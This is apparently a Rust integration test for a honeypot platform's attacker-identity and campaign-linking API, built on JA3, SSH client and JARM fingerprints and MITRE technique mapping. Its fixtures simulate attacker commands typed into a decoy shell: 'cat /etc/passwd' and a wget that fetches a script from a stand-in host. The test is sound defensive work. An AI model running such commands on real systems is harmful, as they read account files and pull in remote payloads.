//! Identities end to end: log lines as the sniffer and the SSH decoy write them go through `svc api`'s
//! embedded ingester and profiler, and `/identities`, `/identities/{uuid}`, its observations and
//! `/attackers/{uuid}/attribution` link the addresses that share a JA3 and an SSH client (banner and
//! key exchange order), and not the one that shares the JA3 only; `/identities/events` tells of an
//! address that joins; two identities whose hosts run the same C2 (the prober's JARM) are one
//! campaign on `/campaigns`, `/campaigns/{uuid}` and its identities.

use svc_test_support::processes as common;

use chrono::{DateTime, Utc};
use common::{admin_token, api_call, api_command, eventually, start_api};
use reqwest::Method;
use serde_json::{Value, json};
use std::time::Duration;

use svc::logline::{Entry, Severity};
use svc_test_support::in_process::sse::EventStream;

const JA3: &str = "e7d705a3286e19ea42f587b344ee6865";
const JA3_B: &str = "19e29534fd49dd27d09234e639c4057e";
const JARM: &str = "2ad2ad16d2ad2ad00042d42d00042ddb04deffa1705e2edc44cae1ed24a4da";
const GO_SSH: (&str, &str) = ("SSH-2.0-Go", "curve25519-sha256,ecdh-sha2-nistp256");
const LIBSSH: (&str, &str) = ("SSH-2.0-libssh_0.9.6", "diffie-hellman-group14-sha1");

fn line(at: DateTime<Utc>, app: &str, msgid: &str, fields: &[(&str, &str)]) -> String {
    line_with(at, app, msgid, fields, None)
}

/// A command `ip` typed into a decoy's shell, as the decoys log it.
fn typed(ip: &str, command: &str) -> String {
    let msg = format!("CMD uid=0 user=root src={ip} pwd=/root cmd={command}");
    line_with(Utc::now(), "bash", "command", &[("src_ip", ip), ("service", "ssh")], Some(msg))
}

fn line_with(at: DateTime<Utc>, app: &str, msgid: &str, fields: &[(&str, &str)], msg: Option<String>) -> String {
    svc::logline::format(&Entry {
        severity: Severity::Info,
        timestamp: at,
        hostname: "decky-a".into(),
        app_name: app.into(),
        msgid: msgid.into(),
        fields: fields.iter().map(|(k, v)| (k.to_string(), v.to_string())).collect(),
        msg,
    }) + "\n"
}

/// What one address does, `minutes_ago`: a TLS ClientHello the sniffer reads, then an SSH client
/// the decoy reads.
fn attacker(ip: &str, ssh: (&str, &str), minutes_ago: i64) -> String {
    attacker_with(ip, JA3, ssh, minutes_ago)
}

fn attacker_with(ip: &str, ja3: &str, ssh: (&str, &str), minutes_ago: i64) -> String {
    let at = Utc::now() - chrono::Duration::minutes(minutes_ago);
    let ja4 = "t13d1516h2_8daaf6152771_e5627efa2ab1";
    line(at, "sniffer", "tls_client_hello", &[("src_ip", ip), ("ja3", ja3), ("ja4", ja4)])
        + &line(at, "ssh", "ssh_client_banner", &[("src_ip", ip), ("client_banner", ssh.0), ("kex", ssh.1)])
}

#[tokio::test]
async fn addresses_sharing_a_ja3_and_an_ssh_client_are_one_identity_and_a_ja3_alone_is_not() {
    let dir = tempfile::tempdir().unwrap();
    let (mut command, port) = api_command(dir.path(), None);
    command
        .env("SVC_INGEST_LOG_FILE", dir.path().join("ingest.log"))
        .env("SVC_EMBED_PROFILER", "true")
        .env("SVC_PROFILER_POLL_MS", "200");
    let _api = start_api(command, port).await;
    let token = admin_token(port).await;
    let lines = attacker("203.0.113.10", GO_SSH, 30)
        + &attacker("198.51.100.20", GO_SSH, 20)
        + &attacker("192.0.2.30", LIBSSH, 10)
        + &typed("198.51.100.20", "cat /etc/passwd")
        + &typed("192.0.2.30", "wget http://203.0.113.99/x.sh");
    std::fs::write(dir.path().join("ingest.log"), lines).unwrap();

    eventually("the two addresses are one identity", || async {
        let listed = api_call(port, &token, Method::GET, "/identities", None).await.1;
        listed["data"][0]["attackers"].as_array().is_some_and(|a| a.len() == 2)
    })
    .await;
    let listed = api_call(port, &token, Method::GET, "/identities", None).await.1;
    assert_eq!(
        (listed["total"].clone(), listed["limit"].clone(), listed["offset"].clone()),
        (json!(1), json!(50), json!(0))
    );
    let identity = &listed["data"][0];
    let ips: Vec<&str> = identity["attackers"].as_array().unwrap().iter().map(|a| a["ip"].as_str().unwrap()).collect();
    assert_eq!(ips, ["203.0.113.10", "198.51.100.20"], "oldest first");
    assert_eq!((identity["observation_count"].clone(), identity["confidence"].clone()), (json!(2), json!(0.75)));
    assert_eq!(identity["ja3_hashes"], json!(format!("[\"{JA3}\"]")), "a JSON text, as DECNET's");
    let ssh_client = format!("{} {}", GO_SSH.0, GO_SSH.1);
    assert_eq!(
        identity["links"][0]["shared"],
        json!([{"primitive": "ja3", "value": JA3}, {"primitive": "ssh_client", "value": ssh_client}]),
        "the merge is explained"
    );
    for key in [
        "schema_version",
        "campaign_id",
        "first_seen_at",
        "last_seen_at",
        "updated_at",
        "payload_simhashes",
        "c2_endpoints",
        "merged_into_uuid",
        "hassh_hashes",
    ] {
        assert!(identity.get(key).is_some(), "DECNET's field {key}");
    }
    let uuid = identity["uuid"].as_str().unwrap();
    let (status, one) = api_call(port, &token, Method::GET, &format!("/identities/{uuid}"), None).await;
    assert_eq!((status, &one), (200, identity));

    let (_, observations) =
        api_call(port, &token, Method::GET, &format!("/identities/{uuid}/observations"), None).await;
    let rows = observations["data"].as_array().unwrap();
    assert_eq!(observations["total"], 2);
    assert!(rows.iter().all(|r| r["identity_id"] == uuid), "{observations}");
    let (_, paged) =
        api_call(port, &token, Method::GET, &format!("/identities/{uuid}/observations?limit=1&offset=1"), None).await;
    assert_eq!(paged["data"][0]["ip"], "198.51.100.20");
    // The attacker list and detail name the identity too, as the linking found it.
    let (_, attackers) = api_call(port, &token, Method::GET, "/attackers?limit=100", None).await;
    let named: Vec<(&str, &Value)> =
        attackers["data"].as_array().unwrap().iter().map(|r| (r["ip"].as_str().unwrap(), &r["identity_id"])).collect();
    let linked = rows.iter().map(|r| r["ip"].as_str().unwrap()).collect::<Vec<_>>();
    for (ip, identity) in &named {
        assert_eq!(linked.contains(ip), *identity == uuid, "{ip}: {identity}");
    }
    let member = rows[0]["uuid"].as_str().unwrap();
    let (_, detail) = api_call(port, &token, Method::GET, &format!("/attackers/{member}"), None).await;
    assert_eq!(detail["identity_id"], uuid);

    // The techniques of the identity's attackers (the identity page's TTPs), not of the third's.
    let techniques = |path: String| {
        let token = token.clone();
        async move {
            let (status, rows) = api_call(port, &token, Method::GET, &path, None).await;
            assert_eq!(status, 200, "{path}: {rows}");
            // Each row's most precise id: its sub-technique's, else its technique's.
            let id = |r: &Value| r["sub_technique_id"].as_str().or(r["technique_id"].as_str()).unwrap().to_string();
            rows.as_array().unwrap().iter().map(id).collect::<Vec<String>>()
        }
    };
    eventually("the commands are folded", || async {
        techniques(format!("/ttp/by-identity/{uuid}")).await.contains(&"T1087.001".to_string())
    })
    .await;
    let seen = techniques(format!("/ttp/by-identity/{uuid}")).await;
    assert!(!seen.contains(&"T1105".to_string()), "the third's download is not the identity's: {seen:?}");
    let (status, layer) =
        api_call(port, &token, Method::GET, &format!("/ttp/export/navigator/identity/{uuid}"), None).await;
    let ids: Vec<&str> =
        layer["techniques"].as_array().unwrap().iter().map(|t| t["techniqueID"].as_str().unwrap()).collect();
    assert_eq!(status, 200);
    assert!(ids.contains(&"T1087.001") && !ids.contains(&"T1105"), "the identity's Navigator layer: {ids:?}");
    let unknown = uuid::Uuid::new_v4();
    for path in [
        format!("/ttp/by-identity/{unknown}"),
        format!("/ttp/by-campaign/{unknown}"),
        format!("/ttp/export/navigator/identity/{unknown}"),
    ] {
        let (status, body) = api_call(port, &token, Method::GET, &path, None).await;
        assert_eq!(status, 404, "{path}: {body}");
    }

    // Attribution: the linked attacker names its identity; the third is linked to no one.
    let uuid_of = |ip: &'static str| {
        let token = token.clone();
        async move {
            let (_, page) = api_call(port, &token, Method::GET, &format!("/attackers?search={ip}"), None).await;
            page["data"][0]["uuid"].as_str().unwrap().to_string()
        }
    };
    let first = uuid_of("203.0.113.10").await;
    let (_, attribution) = api_call(port, &token, Method::GET, &format!("/attackers/{first}/attribution"), None).await;
    assert_eq!(attribution["identity_uuid"], uuid);
    let names: Vec<&str> =
        attribution["primitives"].as_array().unwrap().iter().map(|p| p["primitive"].as_str().unwrap()).collect();
    assert_eq!(names, ["ja3", "ssh_client"]);
    assert_eq!(
        (attribution["primitives"][1]["current_value"].as_str(), attribution["primitives"][1]["state"].as_str()),
        (Some(ssh_client.as_str()), Some("stable"))
    );
    let third = uuid_of("192.0.2.30").await;
    let (status, alone) = api_call(port, &token, Method::GET, &format!("/attackers/{third}/attribution"), None).await;
    assert_eq!((status, alone["identity_uuid"].clone()), (200, Value::Null));
    assert_eq!(alone["primitives"].as_array().unwrap().len(), 2);

    // A fourth address with the same JA3 and SSH client joins, and the event stream says so after
    // its snapshot; an unknown uuid is DECNET's 404.
    let response = reqwest::Client::new()
        .get(format!("http://127.0.0.1:{port}/api/v1/identities/events"))
        .bearer_auth(&token)
        .send()
        .await
        .unwrap();
    assert_eq!(response.status(), 200);
    let mut stream = EventStream::new(response);
    let snapshot = stream.next_event(Duration::from_secs(10)).await.expect("a snapshot");
    assert_eq!(snapshot.event.as_deref(), Some("snapshot"));
    assert_eq!(snapshot.json()["identities"][0]["uuid"], uuid);
    let more = attacker("192.0.2.40", GO_SSH, 0);
    let mut file = std::fs::OpenOptions::new().append(true).open(dir.path().join("ingest.log")).unwrap();
    std::io::Write::write_all(&mut file, more.as_bytes()).unwrap();
    eventually("the new address joins the identity", || async {
        let (_, one) = api_call(port, &token, Method::GET, &format!("/identities/{uuid}"), None).await;
        one["observation_count"] == 3
    })
    .await;
    let linked = stream.next_event(Duration::from_secs(30)).await.expect("a frame after the snapshot");
    assert_eq!(linked.event.as_deref(), Some("observation.linked"));
    let linked = linked.json();
    assert_eq!(
        (linked["topic"].as_str(), linked["payload"]["identity_uuid"].as_str()),
        (Some("identity.observation.linked"), Some(uuid))
    );
    assert_eq!(linked["payload"]["ip"], "192.0.2.40");
    // A second identity (its own TLS and SSH clients) whose host runs the same C2 as the first's
    // (the prober's JARM): one campaign of the two.
    let mut more = attacker_with("192.0.2.50", JA3_B, LIBSSH, 5) + &attacker_with("192.0.2.51", JA3_B, LIBSSH, 4);
    for ip in ["203.0.113.10", "192.0.2.50"] {
        let fields = [("target_ip", ip), ("target_port", "443"), ("jarm_hash", JARM)];
        more += &line(Utc::now(), "prober", "jarm_fingerprint", &fields);
    }
    let response = reqwest::Client::new()
        .get(format!("http://127.0.0.1:{port}/api/v1/campaigns/events"))
        .bearer_auth(&token)
        .send()
        .await
        .unwrap();
    let mut campaign_stream = EventStream::new(response);
    let snapshot = campaign_stream.next_event(Duration::from_secs(10)).await.expect("a snapshot");
    assert_eq!((snapshot.event.as_deref(), snapshot.json()), (Some("snapshot"), json!({"campaigns": []})));
    std::io::Write::write_all(&mut file, more.as_bytes()).unwrap();
    eventually("the two identities are one campaign", || async {
        let (_, campaigns) = api_call(port, &token, Method::GET, "/campaigns", None).await;
        campaigns["data"][0]["identity_count"] == 2
    })
    .await;
    let (_, campaigns) = api_call(port, &token, Method::GET, "/campaigns", None).await;
    assert_eq!(campaigns["total"], 1);
    let campaign = &campaigns["data"][0];
    assert_eq!(campaign["links"][0]["shared"], json!([{"primitive": "jarm", "value": JARM}]), "{campaign}");
    assert_eq!(campaign["confidence"], 0.5);
    let id = campaign["uuid"].as_str().unwrap();
    assert_eq!(api_call(port, &token, Method::GET, &format!("/campaigns/{id}"), None).await.1, *campaign);
    let (_, members) = api_call(port, &token, Method::GET, &format!("/campaigns/{id}/identities"), None).await;
    assert_eq!(members["total"], 2);
    assert!(members["data"].as_array().unwrap().iter().all(|i| i["campaign_id"] == id), "{members}");
    let formed = campaign_stream.next_event(Duration::from_secs(30)).await.expect("a frame after the snapshot");
    assert_eq!(formed.event.as_deref(), Some("formed"));
    assert_eq!(formed.json()["payload"]["campaign_uuid"], id);
    let (_, first_identity) = api_call(port, &token, Method::GET, &format!("/identities/{uuid}"), None).await;
    assert_eq!(first_identity["campaign_id"], id);
    assert!(techniques(format!("/ttp/by-campaign/{id}")).await.contains(&"T1087.001".to_string()));

    let missing = uuid::Uuid::new_v4();
    let (status, body) = api_call(port, &token, Method::GET, &format!("/campaigns/{missing}"), None).await;
    assert_eq!((status, body["detail"].as_str()), (404, Some("Campaign not found")));
    let (status, body) = api_call(port, &token, Method::GET, &format!("/identities/{missing}"), None).await;
    assert_eq!((status, body["detail"].as_str()), (404, Some("Identity not found")));
    let (status, _) = api_call(port, &token, Method::GET, &format!("/attackers/{missing}/attribution"), None).await;
    assert_eq!(status, 404);
    let (status, _) = api_call(port, &token, Method::GET, "/identities?limit=0", None).await;
    assert_eq!(status, 422);
}
